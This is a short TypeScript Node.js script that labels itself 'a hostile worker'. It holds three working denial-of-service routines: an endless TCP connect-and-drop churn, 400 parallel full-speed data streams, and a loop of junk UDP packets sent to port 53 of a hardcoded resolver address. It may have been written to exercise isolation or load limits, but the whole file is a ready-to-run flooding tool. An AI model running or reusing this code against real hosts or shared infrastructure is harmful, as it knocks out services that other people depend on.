// A hostile worker: does one thing as fast as it can until it is ended, and says once that it has begun.
import { createSocket } from 'node:dgram';
import { connect, type Socket } from 'node:net';

const resolver = '168.63.129.16';
const [what = '', address = '', port = '443'] = process.argv.slice(2);
const atOnce = 400;

/** Connections without end, each given up as soon as it is there. */
const churn = (): void => {
  const next = (): void => {
    let isOver = false;
    const again = (): void => {
      if (isOver) return;
      isOver = true;
      setImmediate(next);
    };
    const socket: Socket = connect({ host: address, port: Number(port) }, () => socket.destroy());
    socket.on('error', again).on('close', again);
  };
  for (let count = 0; count < atOnce; count += 1) next();
};

/** As many streams as there may be, all at full speed. */
const streams = (): void => {
  const block = Buffer.alloc(256 * 1024, 7);
  for (let count = 0; count < atOnce; count += 1) {
    const socket = connect({ host: address, port: Number(port) });
    const write = (): void => {
      while (!socket.destroyed && socket.write(block));
    };
    socket
      .on('drain', write)
      .on('connect', write)
      .on('error', () => {});
  }
};

/** Datagrams to the resolver; what they ask is no question. */
const datagrams = (): void => {
  const socket = createSocket('udp4');
  const packet = Buffer.alloc(64, 1);
  const send = (): void => {
    for (let count = 0; count < 500; count += 1) socket.send(packet, 53, resolver);
    setImmediate(send);
  };
  send();
};

const acts: Record<string, () => void> = { churn, streams, datagrams };
acts[what]!();
process.stdout.write('begun\n');
setInterval(() => {}, 60_000);
